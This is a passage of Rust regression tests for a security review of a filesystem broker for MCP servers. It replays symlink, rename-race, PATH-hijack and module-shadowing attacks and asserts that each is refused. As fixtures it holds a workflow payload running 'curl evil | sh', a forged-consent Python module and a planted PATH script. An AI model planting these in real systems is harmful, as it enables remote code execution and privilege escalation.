@@ -1,0 +1,1459 @@
+//! Regression tests for the attacks a security review found, ported from the reviewer's
+//! reproducing scripts, through the real binary over real pipes on real temp dirs.
+//!
+//! Each test names its finding (F1 ... F11, and the relative `--root .`), performs the attack
+//! exactly as a hostile MCP server would, and asserts the behaviour wanted once it is fixed:
+//! the exact refusal (`-31002` / `PERMISSION_DENIED`, its reason where the contract gives one,
+//! `data.path` the path as sent) and the state of the disk (nothing landed, nothing ran,
+//! nothing reloaded into a wider policy).
+//!
+//! | test | finding |
+//! |---|---|
+//! | `f1_*` | a chunked upload whose folder is renamed onto a denied folder lands there |
+//! | `f2_*` | a write raced against the rename of its folder onto a denied folder lands there |
+//! | `f3_*` | a module beside the consent script shadows the standard library and runs |
+//! | `f4_*` | a consent program found through `PATH` is replaced by an earlier `PATH` entry |
+//! | `f5_*` | a hop of the symlink chain leading to the policy is replaced, the reload obeys |
+//! | `f6_*` | a root configured through a symlink is re-pointed by replacing the link |
+//! | `f7_*` | the audit log still in use loses its protection when `[audit] path` changes |
+//! | `f8_*` | `files/create` makes the parent folders inside a root it then refuses |
+//! | `f9_*` | a recursive listing of the outer root shows a nested deny / ungranted root |
+//! | `f10_*` | a listing through a symlink shows a nested deny root or an ungranted folder |
+//! | `f11_*` | a listing through a symlink to the audit log's folder shows the logs |
+//! | `relative_root_*` | with `--root .`, an absolute path outside answers a file beneath `$PWD` |
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::ffi::OsStr;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use common::{Broker, LiveBroker, bin, code, tempdir, uri_path};
+use serde_json::{Value, json};
+
+// ---------------------------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------------------------
+
+/// Longest wait for a response.
+const DEADLINE: Duration = Duration::from_secs(20);
+
+/// `error.code` of `PERMISSION_DENIED`.
+const PERMISSION_DENIED: i64 = -31002;
+
+/// How long a test watches, after SIGHUP, for a reload that must not widen anything.
+const AFTER_RELOAD: Duration = Duration::from_millis(1500);
+
+/// What hostile writes put into files.
+const PAYLOAD: &str = "on: push\njobs: {pwn: {runs-on: x, steps: [{run: curl evil | sh}]}}\n";
+
+/// In the file outside every root.
+const OUTSIDE_MARKER: &str = "OUTSIDE-SECRET-5b1e";
+
+/// The real python interpreter (not a version-manager shim).
+fn python() -> &'static str {
+    static PYTHON: OnceLock<String> = OnceLock::new();
+    PYTHON.get_or_init(|| {
+        let out = Command::new("python3")
+            .args(["-c", "import sys; print(sys.executable)"])
+            .stderr(Stdio::inherit())
+            .output()
+            .expect("python3 is needed by these tests");
+        assert!(out.status.success(), "python3 failed");
+        let exe = String::from_utf8(out.stdout).unwrap().trim().to_owned();
+        assert!(!exe.is_empty(), "python3 did not name its executable");
+        exe
+    })
+}
+
+fn s(p: &Path) -> String {
+    p.to_str().unwrap().to_owned()
+}
+
+/// A TOML literal string holding `p` (temp paths hold no `'`).
+fn lit(p: &Path) -> String {
+    let s = s(p);
+    assert!(!s.contains('\''), "temp path unusable in a TOML literal");
+    format!("'{s}'")
+}
+
+/// `file://` URI of an absolute path.
+fn uri(p: &Path) -> String {
+    format!("file://{}", uri_path(p))
+}
+
+/// Writes `text` to `path`, making its folders.
+fn put(path: &Path, text: &str) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, text).unwrap();
+}
+
+/// Makes an executable script.
+fn put_exe(path: &Path, text: &str) {
+    put(path, text);
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+fn mkdirs(base: &Path, dirs: &[&str]) {
+    for d in dirs {
+        std::fs::create_dir_all(base.join(d)).unwrap();
+    }
+}
+
+/// One `[[root]]` table; `path` is TOML text (a literal or basic string).
+fn root_toml(path: &str, name: &str, mode: &str, consent: &str, deny: &[&str]) -> String {
+    let deny: Vec<String> = deny.iter().map(|g| format!("{g:?}")).collect();
+    format!(
+        "[[root]]\npath = {path}\nname = \"{name}\"\nmode = \"{mode}\"\nconsent = \"{consent}\"\ndeny = [{}]\n\n",
+        deny.join(", ")
+    )
+}
+
+/// Limits that keep the rate limiter out of quick test sequences.
+const LIMITS: &str = "[limits]\nrequests_per_second = 0\n";
+
+/// `fsbroker serve --policy FILE`.
+fn serve(policy: &Path) -> LiveBroker {
+    LiveBroker::start(
+        &[
+            OsStr::new("serve"),
+            OsStr::new("--policy"),
+            policy.as_os_str(),
+        ],
+        DEADLINE,
+    )
+}
+
+/// Sends SIGHUP with `kill -HUP PID`.
+fn hangup(pid: u32) {
+    let st = Command::new("kill")
+        .arg("-HUP")
+        .arg(pid.to_string())
+        .status()
+        .expect("run kill");
+    assert!(st.success(), "kill -HUP failed: {st}");
+}
+
+/// A value short enough for a failure message.
+fn shown(v: &Value) -> String {
+    let s = v.to_string();
+    if s.len() > 400 {
+        let cut = (0..=300)
+            .rev()
+            .find(|&i| s.is_char_boundary(i))
+            .unwrap_or(0);
+        format!("{}... ({} bytes)", &s[..cut], s.len())
+    } else {
+        s
+    }
+}
+
+/// What a refusal's reason must be.
+#[derive(Clone, Copy)]
+enum Reason<'a> {
+    /// Exactly this.
+    Is(&'a str),
+    /// Starting with one of these.
+    StartsWith(&'a [&'a str]),
+    /// Not checked (the contract gives none).
+    Any,
+}
+
+/// Checks a whole response is the refusal wanted: `-31002`, `PERMISSION_DENIED`, `data.path`
+/// exactly `path` (as sent), and the reason.
+fn denied(resp: &Value, path: &str, reason: Reason) -> Result<(), String> {
+    if resp.get("result").is_some() {
+        return Err(format!("answered ok: {}", shown(resp)));
+    }
+    let err = &resp["error"];
+    let mut wrong = Vec::new();
+    if err["code"] != json!(PERMISSION_DENIED) {
+        wrong.push(format!("code {}", err["code"]));
+    }
+    if code(err) != "PERMISSION_DENIED" {
+        wrong.push(format!("data.code {}", err["data"]["code"]));
+    }
+    if err["data"]["path"].as_str() != Some(path) {
+        wrong.push(format!(
+            "data.path {} (want {})",
+            err["data"]["path"],
+            json!(path)
+        ));
+    }
+    let got = err["data"]["reason"].as_str().unwrap_or_default();
+    match reason {
+        Reason::Is(want) if got != want => wrong.push(format!("reason {got:?} (want {want:?})")),
+        Reason::StartsWith(wants) if !wants.iter().any(|w| got.starts_with(w)) => {
+            wrong.push(format!("reason {got:?} (want one starting {wants:?})"))
+        }
+        _ => {}
+    }
+    if wrong.is_empty() {
+        Ok(())
+    } else {
+        Err(format!("{}: {}", wrong.join(", "), shown(resp)))
+    }
+}
+
+/// Everything a test found wrong, reported together at the end.
+#[derive(Default)]
+struct Problems(Vec<String>);
+
+impl Problems {
+    fn check(&mut self, what: &str, r: Result<(), String>) {
+        if let Err(e) = r {
+            self.0.push(format!("{what}: {e}"));
+        }
+    }
+
+    fn push(&mut self, what: impl Into<String>) {
+        self.0.push(what.into());
+    }
+
+    fn assert_none(self, headline: &str) {
+        assert!(self.0.is_empty(), "{headline}:\n  {}", self.0.join("\n  "));
+    }
+}
+
+/// Everything beneath `dir`, never following a symlink: relative path → `dir`,
+/// `file:CONTENT` or `link:TARGET`.
+fn snapshot(dir: &Path) -> BTreeMap<String, String> {
+    fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let entry = entry.unwrap();
+            let path = entry.path();
+            let rel = s(path.strip_prefix(base).unwrap());
+            let ft = entry.file_type().unwrap();
+            if ft.is_symlink() {
+                let target = std::fs::read_link(&path).unwrap();
+                out.insert(rel, format!("link:{}", target.display()));
+            } else if ft.is_dir() {
+                out.insert(rel, "dir".into());
+                walk(base, &path, out);
+            } else {
+                let content = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
+                out.insert(rel, format!("file:{content}"));
+            }
+        }
+    }
+    let mut out = BTreeMap::new();
+    walk(dir, dir, &mut out);
+    out
+}
+
+/// What changed between two snapshots, one line per path.
+fn diff(before: &BTreeMap<String, String>, after: &BTreeMap<String, String>) -> Vec<String> {
+    let mut out = Vec::new();
+    for (k, v) in after {
+        match before.get(k) {
+            None => out.push(format!("{k} appeared ({v})")),
+            Some(old) if old != v => out.push(format!("{k} changed: {old} -> {v}")),
+            _ => {}
+        }
+    }
+    for k in before.keys() {
+        if !after.contains_key(k) {
+            out.push(format!("{k} disappeared"));
+        }
+    }
+    out
+}
+
+/// Whether an entry exists at `p` (not following a final symlink).
+fn exists(p: &Path) -> bool {
+    std::fs::symlink_metadata(p).is_ok()
+}
+
+/// The `path`s of a `files/list` (hidden entries included), or the whole response on failure.
+fn listed(b: &mut LiveBroker, path: &str, recursive: bool) -> Result<Vec<String>, Value> {
+    let r = b.request(
+        "files/list",
+        json!({"path": path, "recursive": recursive, "includeHidden": true}),
+    );
+    match r["result"]["entries"].as_array() {
+        Some(entries) => Ok(entries
+            .iter()
+            .map(|e| e["path"].as_str().unwrap().to_owned())
+            .collect()),
+        None => Err(r),
+    }
+}
+
+/// Sends SIGHUP, then for [`AFTER_RELOAD`] checks that `roots/list` stays `roots` and that
+/// none of `outside` (paths as a server would send them) is readable. Returns what was seen
+/// instead, each kind once (a reload the policy watcher did first shows up the same way).
+fn after_sighup(b: &mut LiveBroker, roots: &Value, outside: &[String]) -> Vec<String> {
+    hangup(b.pid());
+    let mut seen = Vec::new();
+    let (mut roots_seen, mut read_seen) = (false, vec![false; outside.len()]);
+    let start = Instant::now();
+    while start.elapsed() < AFTER_RELOAD {
+        let now = b.ok("roots/list", json!({}));
+        if &now != roots && !roots_seen {
+            roots_seen = true;
+            seen.push(format!(
+                "after SIGHUP roots/list is {} (was {})",
+                shown(&now),
+                shown(roots)
+            ));
+        }
+        for (path, done) in outside.iter().zip(read_seen.iter_mut()) {
+            let r = b.request("files/read", json!({"path": path}));
+            if r.get("error").is_none() && !*done {
+                *done = true;
+                seen.push(format!("after SIGHUP {path} was read: {}", shown(&r)));
+            }
+        }
+        if roots_seen && read_seen.iter().all(|&d| d) {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    seen
+}
+
+/// What is at `p` now, for messages: a link and its target, a folder, a file, or nothing.
+fn what_is(p: &Path) -> String {
+    match std::fs::symlink_metadata(p) {
+        Err(_) => "absent".into(),
+        Ok(m) if m.file_type().is_symlink() => {
+            format!("a link to {}", std::fs::read_link(p).unwrap().display())
+        }
+        Ok(m) if m.is_dir() => "a folder".into(),
+        Ok(_) => "a file".into(),
+    }
+}
+
+/// A consent command script that approves whatever is asked.
+const APPROVE_ALL_PY: &str = "import json, sys\nr = json.load(sys.stdin)\nprint(json.dumps({'approvedPaths': r['requestedPaths']}))\n";
+
+// ---------------------------------------------------------------------------------------------
+// F1: a chunked upload whose folder is moved onto a denied folder
+// ---------------------------------------------------------------------------------------------
+
+/// `T/proj` (root `p`, read-write, auto, deny `.github/workflows/*.yml`) holding an empty
+/// `.github/`, and `T/other` (root `o`, read-write, auto, no globs).
+fn upload_world() -> (tempfile::TempDir, PathBuf, LiveBroker) {
+    let (t, dir) = tempdir();
+    mkdirs(&dir, &["proj/.github", "other", "policy"]);
+    let policy = dir.join("policy/policy.toml");
+    std::fs::write(
+        &policy,
+        format!(
+            "{}{}{LIMITS}",
+            root_toml(
+                &lit(&dir.join("proj")),
+                "p",
+                "read-write",
+                "auto",
+                &[".github/workflows/*.yml"]
+            ),
+            root_toml(&lit(&dir.join("other")), "o", "read-write", "auto", &[]),
+        ),
+    )
+    .unwrap();
+    let b = serve(&policy);
+    (t, dir, b)
+}
+
+/// The upload of `SRC/tmpd/evil.yml` started, `SRC/tmpd` renamed to `p/.github/workflows`,
+/// `SRC/tmpd` made again, the final chunk sent. Either the rename or the final chunk must be
+/// refused `PERMISSION_DENIED` (naming the path as sent), and no `evil.yml` may ever appear
+/// under `.github/workflows`.
+fn upload_then_move_folder_onto_denied(src: &str) {
+    let (_t, dir, mut b) = upload_world();
+    let proj = dir.join("proj");
+    let landed = proj.join(".github/workflows/evil.yml");
+    let mut problems = Problems::default();
+
+    // Control: the name is denied to a plain write.
+    let r = b.request(
+        "files/write",
+        json!({"path": "p/.github/workflows/evil.yml", "content": PAYLOAD}),
+    );
+    problems.check(
+        "control: a plain write of the denied name",
+        denied(
+            &r,
+            "p/.github/workflows/evil.yml",
+            Reason::Is("denied by policy"),
+        ),
+    );
+
+    let tmpd = format!("{src}/tmpd");
+    let file = format!("{tmpd}/evil.yml");
+    b.ok("files/create", json!({"path": tmpd, "type": "directory"}));
+    b.ok(
+        "files/write",
+        json!({"path": file, "content": PAYLOAD, "offset": 0, "final": false}),
+    );
+    let rename = b.request(
+        "files/rename",
+        json!({"oldPath": tmpd, "newPath": "p/.github/workflows"}),
+    );
+    if rename.get("result").is_some() {
+        // The folder moved: the scratch folder is made again for the last chunk's path.
+        b.request("files/create", json!({"path": tmpd, "type": "directory"}));
+    }
+    let last = b.request(
+        "files/write",
+        json!({"path": file, "content": "", "offset": PAYLOAD.len(), "final": true}),
+    );
+
+    if exists(&landed) {
+        problems.push(format!(
+            "{} landed on the denied name (rename answered {}, final chunk answered {})",
+            landed.display(),
+            shown(&rename),
+            shown(&last)
+        ));
+    }
+    if rename.get("result").is_some() {
+        problems.check(
+            "the final chunk, after its folder was moved onto the denied folder",
+            denied(&last, &file, Reason::Any),
+        );
+    } else {
+        // Either path of the rename may be the one blamed.
+        let blamed = denied(&rename, "p/.github/workflows", Reason::Any)
+            .or_else(|_| denied(&rename, &tmpd, Reason::Any));
+        problems.check("the rename of the folder holding the upload", blamed);
+    }
+    let workflows = proj.join(".github/workflows");
+    if workflows.is_dir() {
+        let names: Vec<String> = snapshot(&workflows)
+            .into_keys()
+            .filter(|n| !n.contains(".fsbroker-"))
+            .collect();
+        if !names.is_empty() {
+            problems.push(format!(".github/workflows holds {names:?}"));
+        }
+    }
+    problems.assert_none(&format!(
+        "F1: an upload started in {tmpd} and moved onto .github/workflows"
+    ));
+}
+
+/// F1: deny `.github/workflows/*.yml`; start an upload in `p/tmpd`, rename `p/tmpd` onto
+/// `p/.github/workflows`, make `p/tmpd` again and send the final chunk: nothing may land at
+/// `.github/workflows/evil.yml` (the rename or the final chunk is refused).
+#[test]
+fn f1_an_upload_moved_onto_a_denied_folder_never_lands_there() {
+    upload_then_move_folder_onto_denied("p");
+}
+
+/// F1, across roots: the upload starts in `o/tmpd` (a root without globs) and its folder is
+/// renamed onto `p/.github/workflows`.
+#[test]
+fn f1_an_upload_moved_onto_a_denied_folder_of_another_root_never_lands_there() {
+    upload_then_move_folder_onto_denied("o");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F2: a write raced against the rename of its folder
+// ---------------------------------------------------------------------------------------------
+
+/// F2: deny `.github/workflows/*`; again and again, make an empty `p/tN`, then send
+/// `files/write p/tN/evil.yml` and `files/rename p/tN -> p/.github/workflows` back to back
+/// without waiting. Whichever wins, `evil.yml` must never exist under `.github/workflows`.
+/// (Whatever landed legitimately is removed after each try.)
+#[test]
+fn f2_a_write_raced_against_moving_its_folder_onto_a_denied_folder_never_lands_there() {
+    let (_t, dir) = tempdir();
+    let proj = dir.join("proj");
+    mkdirs(&dir, &["proj/.github", "policy"]);
+    let policy = dir.join("policy/policy.toml");
+    std::fs::write(
+        &policy,
+        format!(
+            "{}{LIMITS}",
+            root_toml(
+                &lit(&proj),
+                "p",
+                "read-write",
+                "auto",
+                &[".github/workflows/*"]
+            )
+        ),
+    )
+    .unwrap();
+    let mut b = serve(&policy);
+    let workflows = proj.join(".github/workflows");
+    let landed = workflows.join("evil.yml");
+    let start = Instant::now();
+    let (mut tries, mut renamed, mut written) = (0, 0, 0);
+    for i in 0..300 {
+        if start.elapsed() > Duration::from_secs(15) {
+            break;
+        }
+        tries += 1;
+        let d = format!("p/t{i}");
+        b.ok("files/create", json!({"path": d, "type": "directory"}));
+        let w = b.send(
+            "files/write",
+            json!({"path": format!("{d}/evil.yml"), "content": "x"}),
+        );
+        let r = b.send(
+            "files/rename",
+            json!({"oldPath": d, "newPath": "p/.github/workflows"}),
+        );
+        let (rw, rr) = (b.response(w), b.response(r));
+        assert!(
+            !exists(&landed),
+            "F2: at try {i} evil.yml landed under the denied .github/workflows \
+             (write answered {}, rename answered {})",
+            shown(&rw),
+            shown(&rr)
+        );
+        if rr.get("result").is_some() {
+            renamed += 1;
+            std::fs::remove_dir_all(&workflows).unwrap();
+        }
+        if rw.get("result").is_some() {
+            written += 1;
+        }
+        let _ = std::fs::remove_dir_all(proj.join(format!("t{i}")));
+    }
+    println!(
+        "F2: {tries} tries in {:?}: {written} writes, {renamed} renames answered ok",
+        start.elapsed()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// F3: code beside the consent script
+// ---------------------------------------------------------------------------------------------
+
+/// F3: the consent command is `[python3, T/proj/tools/consent.py]` (a script that always says
+/// no) and `T/proj` is a read-write auto root `p`. A server writing `p/tools/json.py` (which
+/// `import json` in the script would load first) must be refused "protected…", as must every
+/// create, rename and delete beneath the consent command's folder; and at the next
+/// `files/consent` no code the server wrote runs (it would leave a marker file) and the prompt
+/// root stays closed.
+#[test]
+fn f3_the_consent_scripts_folder_is_protected_so_no_server_module_runs_at_consent() {
+    let (_t, dir) = tempdir();
+    let proj = dir.join("proj");
+    let tools = proj.join("tools");
+    let marker = dir.join("PWNED");
+    put(
+        &tools.join("consent.py"),
+        "import json, sys\njson.load(sys.stdin)\nprint(json.dumps({'approvedPaths': []}))\n",
+    );
+    put(&tools.join("helper.py"), "X = 1\n");
+    put(&tools.join("helper2.py"), "Y = 1\n");
+    put(&proj.join("spare.py"), "Z = 1\n");
+    put(&dir.join("private/secret.txt"), OUTSIDE_MARKER);
+    let policy = dir.join("policy/policy.toml");
+    put(
+        &policy,
+        &format!(
+            "{}{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
+            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
+            root_toml(
+                &lit(&dir.join("private")),
+                "priv",
+                "read-only",
+                "prompt",
+                &[]
+            ),
+            lit(Path::new(python())),
+            lit(&tools.join("consent.py")),
+        ),
+    );
+    let mut b = serve(&policy);
+    let mut problems = Problems::default();
+    let protected = Reason::StartsWith(&["protected"]);
+
+    // Controls: the script itself is protected; it says no.
+    let r = b.request(
+        "files/write",
+        json!({"path": "p/tools/consent.py", "content": "x"}),
+    );
+    problems.check(
+        "control: write of the script",
+        denied(&r, "p/tools/consent.py", protected),
+    );
+    let r = b.ok(
+        "files/consent",
+        json!({"message": "m", "requestedPaths": ["priv"]}),
+    );
+    if r["granted"] != json!(false) {
+        problems.push(format!("control: the script approved {}", shown(&r)));
+    }
+
+    // The attack: a module shadowing the standard library's `json`, beside the script.
+    let evil = format!(
+        "import os, sys\nopen({marker:?}, 'w').write('ran')\n\
+         sys.stdout.write('{{\"approvedPaths\": [{priv:?}]}}')\nsys.stdout.flush()\nos._exit(0)\n",
+        marker = s(&marker),
+        priv = s(&dir.join("private")),
+    );
+    let before = snapshot(&dir);
+    let r = b.request(
+        "files/write",
+        json!({"path": "p/tools/json.py", "content": evil}),
+    );
+    problems.check(
+        "files/write p/tools/json.py",
+        denied(&r, "p/tools/json.py", protected),
+    );
+    let r = b.request(
+        "files/consent",
+        json!({"message": "m", "requestedPaths": ["priv"]}),
+    );
+    if exists(&marker) {
+        problems.push(format!(
+            "the consent command ran the server's json.py (files/consent answered {})",
+            shown(&r)
+        ));
+    }
+    if r["result"]["granted"] == json!(true) {
+        problems.push(format!("files/consent granted: {}", shown(&r)));
+    }
+    let r = b.request("files/read", json!({"path": "priv/secret.txt"}));
+    problems.check(
+        "the prompt root after consent",
+        denied(&r, "priv/secret.txt", Reason::Is("no consent")),
+    );
+    if problems.0.is_empty() {
+        let after = diff(&before, &snapshot(&dir));
+        if !after.is_empty() {
+            problems.push(format!("the disk changed: {after:?}"));
+        }
+    }
+
+    // Every other way to put or remove code beneath the script's folder.
+    let rows: [(&str, Value, &str); 6] = [
+        (
+            "files/create",
+            json!({"path": "p/tools/new.py", "type": "file"}),
+            "p/tools/new.py",
+        ),
+        (
+            "files/create",
+            json!({"path": "p/tools/pkg/mod.py", "type": "file"}),
+            "p/tools/pkg/mod.py",
+        ),
+        (
+            "files/create",
+            json!({"path": "p/tools/sub", "type": "directory"}),
+            "p/tools/sub",
+        ),
+        (
+            "files/rename",
+            json!({"oldPath": "p/spare.py", "newPath": "p/tools/spare.py"}),
+            "p/tools/spare.py",
+        ),
+        (
+            "files/rename",
+            json!({"oldPath": "p/tools/helper.py", "newPath": "p/helper.py"}),
+            "p/tools/helper.py",
+        ),
+        (
+            "files/delete",
+            json!({"path": "p/tools/helper2.py"}),
+            "p/tools/helper2.py",
+        ),
+    ];
+    for (method, params, blame) in rows {
+        let before = snapshot(&dir);
+        let r = b.request(method, params.clone());
+        problems.check(&format!("{method} {params}"), denied(&r, blame, protected));
+        let changed = diff(&before, &snapshot(&dir));
+        if !changed.is_empty() {
+            problems.push(format!("{method} {params} changed the disk: {changed:?}"));
+        }
+    }
+    problems.assert_none("F3: code beside the consent script");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F4: the consent program found through PATH
+// ---------------------------------------------------------------------------------------------
+
+/// F4: the consent command's program is a bare name (`fsb-review-consent`) that exists only in
+/// `T/realbin`; the broker runs with `PATH=T/home/bin:T/realbin:$PATH`, and `T/home` is a
+/// read-write auto root. The server overwrites an existing executable (`home/proj/build.sh`,
+/// whose mode a write keeps), makes `home/bin` and renames the file to
+/// `home/bin/fsb-review-consent`. At the next `files/consent` on the prompt root the broker must
+/// run the program it resolved at load: the server's program never runs (it would leave a
+/// marker file), the real one is asked, and the prompt root stays closed.
+#[test]
+fn f4_the_consent_program_is_the_one_resolved_at_load_not_a_later_path_lookup() {
+    let (_t, dir) = tempdir();
+    let home = dir.join("home");
+    let marker = dir.join("PWNED");
+    let asked = dir.join("asked.log");
+    const NAME: &str = "fsb-review-consent";
+    put_exe(
+        &dir.join("realbin").join(NAME),
+        &format!(
+            "#!{}\nimport json, sys\njson.load(sys.stdin)\nopen({:?}, 'a').write('asked\\n')\n\
+             print(json.dumps({{'approvedPaths': []}}))\n",
+            python(),
+            s(&asked)
+        ),
+    );
+    put_exe(&home.join("proj/build.sh"), "#!/bin/sh\necho build\n");
+    put(&dir.join("private/secret.txt"), OUTSIDE_MARKER);
+    let policy = dir.join("cfg/policy.toml");
+    put(
+        &policy,
+        &format!(
+            "{}{}[consent]\ncommand = [\"{NAME}\"]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
+            root_toml(&lit(&home), "home", "read-write", "auto", &[]),
+            root_toml(
+                &lit(&dir.join("private")),
+                "priv",
+                "read-only",
+                "prompt",
+                &[]
+            ),
+        ),
+    );
+    let path = format!(
+        "{}:{}:{}",
+        s(&home.join("bin")),
+        s(&dir.join("realbin")),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let mut b = Broker::spawn_program(
+        "env",
+        &[
+            format!("PATH={path}"),
+            bin().to_owned(),
+            "serve".into(),
+            "--policy".into(),
+            s(&policy),
+        ],
+    );
+    let mut problems = Problems::default();
+
+    // Control: the real program is asked, and says no.
+    let r = b.ok(
+        "files/consent",
+        json!({"message": "m", "requestedPaths": ["priv"]}),
+    );
+    assert_eq!(r["granted"], json!(false), "control: {r}");
+    assert_eq!(
+        std::fs::read_to_string(&asked).unwrap_or_default(),
+        "asked\n",
+        "control: the real consent program was not run"
+    );
+
+    // The attack.
+    let evil = format!(
+        "#!/bin/sh\necho ran > '{}'\necho '{{\"approvedPaths\": [\"{}\"]}}'\n",
+        s(&marker),
+        s(&dir.join("private"))
+    );
+    b.ok(
+        "files/write",
+        json!({"path": "home/proj/build.sh", "content": evil}),
+    );
+    b.request(
+        "files/create",
+        json!({"path": "home/bin", "type": "directory"}),
+    );
+    let planted = b.request(
+        "files/rename",
+        json!({"oldPath": "home/proj/build.sh", "newPath": format!("home/bin/{NAME}")}),
+    );
+    let r = b.request(
+        "files/consent",
+        json!({"message": "m", "requestedPaths": ["priv"]}),
+    );
+    if exists(&marker) {
+        problems.push(format!(
+            "the server's program in an earlier PATH entry ran as the consent command \
+             (rename answered {}, files/consent answered {})",
+            shown(&planted),
+            shown(&r)
+        ));
+    }
+    if r["result"]["granted"] == json!(true) {
+        problems.push(format!("files/consent granted: {}", shown(&r)));
+    }
+    let times = std::fs::read_to_string(&asked).unwrap_or_default();
+    if times != "asked\nasked\n" {
+        problems.push(format!(
+            "the real consent program was not asked the second time (its log: {times:?})"
+        ));
+    }
+    let r = b.request("files/read", json!({"path": "priv/secret.txt"}));
+    problems.check(
+        "the prompt root after consent",
+        denied(&r, "priv/secret.txt", Reason::Is("no consent")),
+    );
+    problems.assert_none("F4: a consent program planted earlier in PATH");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F5: the policy reached through a chain of symlinks
+// ---------------------------------------------------------------------------------------------
+
+/// The world of F5, in a fresh temp dir `T`:
+///
+/// ```text
+/// T/outside/secret.txt
+/// T/home/                      root `home` (read-write, auto)
+/// T/home/src/dotfiles/fsbroker.toml     the policy
+/// T/home/.dotfiles -> src/dotfiles      the middle hop (a user's link)
+/// T/home/cfg/fsbroker.toml -> ../.dotfiles/fsbroker.toml   the path given to --policy
+/// T/home/alt -> alt_dotfiles            another user's link;  T/home/alt_dotfiles/
+/// ```
+struct Chain {
+    _t: tempfile::TempDir,
+    dir: PathBuf,
+    home: PathBuf,
+    b: LiveBroker,
+}
+
+impl Chain {
+    fn new() -> Chain {
+        let (t, dir) = tempdir();
+        let home = dir.join("home");
+        put(&dir.join("outside/secret.txt"), OUTSIDE_MARKER);
+        mkdirs(&home, &["src/dotfiles", "cfg", "alt_dotfiles"]);
+        put(
+            &home.join("src/dotfiles/fsbroker.toml"),
+            &format!(
+                "{}{LIMITS}",
+                root_toml(&lit(&home), "home", "read-write", "auto", &[])
+            ),
+        );
+        symlink("src/dotfiles", home.join(".dotfiles")).unwrap();
+        symlink("../.dotfiles/fsbroker.toml", home.join("cfg/fsbroker.toml")).unwrap();
+        symlink("alt_dotfiles", home.join("alt")).unwrap();
+        let b = serve(&home.join("cfg/fsbroker.toml"));
+        Chain {
+            _t: t,
+            dir,
+            home,
+            b,
+        }
+    }
+
+    /// A policy granting the whole file system.
+    fn evil() -> String {
+        format!(
+            "{}{LIMITS}",
+            root_toml("'/'", "all", "read-write", "auto", &[])
+        )
+    }
+
+    /// The outside file as a server would try it: absolutely and through a root `all`.
+    fn outside(&self) -> Vec<String> {
+        let p = s(&self.dir.join("outside/secret.txt"));
+        vec![p.clone(), format!("all{p}")]
+    }
+}
+
+/// F5: the policy is `home/cfg/fsbroker.toml -> ../.dotfiles/fsbroker.toml` with
+/// `home/.dotfiles -> src/dotfiles`, all inside the read-write root `home`. Deleting, renaming
+/// away or replacing the middle link `.dotfiles` must be refused "protected…" (as are the
+/// other hops, the controls); after each attempt and the rest of its attack (a folder of the
+/// same name holding a policy granting `/`), a reload by SIGHUP leaves `roots/list` unchanged
+/// and the outside file unreadable.
+#[test]
+fn f5_no_hop_of_the_symlink_chain_to_the_policy_can_be_replaced() {
+    let protected = Reason::StartsWith(&["protected"]);
+    let mut problems = Problems::default();
+
+    // Controls, on the hops that are protected today.
+    {
+        let mut c = Chain::new();
+        let before = snapshot(&c.home);
+        for (method, params, blame) in [
+            (
+                "files/delete",
+                json!({"path": "home/cfg/fsbroker.toml"}),
+                "home/cfg/fsbroker.toml",
+            ),
+            (
+                "files/delete",
+                json!({"path": "home/cfg", "recursive": true}),
+                "home/cfg",
+            ),
+            (
+                "files/delete",
+                json!({"path": "home/src/dotfiles", "recursive": true}),
+                "home/src/dotfiles",
+            ),
+            (
+                "files/rename",
+                json!({"oldPath": "home/src", "newPath": "home/src2"}),
+                "home/src",
+            ),
+        ] {
+            let r = c.b.request(method, params.clone());
+            problems.check(
+                &format!("control: {method} {params}"),
+                denied(&r, blame, protected),
+            );
+        }
+        let changed = diff(&before, &snapshot(&c.home));
+        if !changed.is_empty() {
+            problems.push(format!("controls changed the disk: {changed:?}"));
+        }
+    }
+
+    type Step = (&'static str, Value);
+    let rows: [(&str, Step, &str, Vec<Step>); 3] = [
+        (
+            "delete the middle link",
+            ("files/delete", json!({"path": "home/.dotfiles"})),
+            "home/.dotfiles",
+            vec![
+                (
+                    "files/create",
+                    json!({"path": "home/.dotfiles", "type": "directory"}),
+                ),
+                (
+                    "files/write",
+                    json!({"path": "home/.dotfiles/fsbroker.toml", "content": Chain::evil()}),
+                ),
+            ],
+        ),
+        (
+            "rename the middle link away",
+            (
+                "files/rename",
+                json!({"oldPath": "home/.dotfiles", "newPath": "home/dotfiles.old"}),
+            ),
+            "home/.dotfiles",
+            vec![
+                (
+                    "files/create",
+                    json!({"path": "home/.dotfiles", "type": "directory"}),
+                ),
+                (
+                    "files/write",
+                    json!({"path": "home/.dotfiles/fsbroker.toml", "content": Chain::evil()}),
+                ),
+            ],
+        ),
+        (
+            "replace the middle link by renaming another link onto it",
+            (
+                "files/rename",
+                json!({"oldPath": "home/alt", "newPath": "home/.dotfiles", "overwrite": true}),
+            ),
+            "home/.dotfiles",
+            vec![],
+        ),
+    ];
+    for (label, (method, params), blame, rest) in rows {
+        let mut c = Chain::new();
+        let roots = c.b.ok("roots/list", json!({}));
+        // The replacement policy a server may write beforehand (allowed: an ordinary file).
+        c.b.ok(
+            "files/write",
+            json!({"path": "home/alt_dotfiles/fsbroker.toml", "content": Chain::evil()}),
+        );
+        let link_before = std::fs::read_link(c.home.join(".dotfiles")).unwrap();
+        let r = c.b.request(method, params.clone());
+        problems.check(
+            &format!("{label}: {method} {params}"),
+            denied(&r, blame, protected),
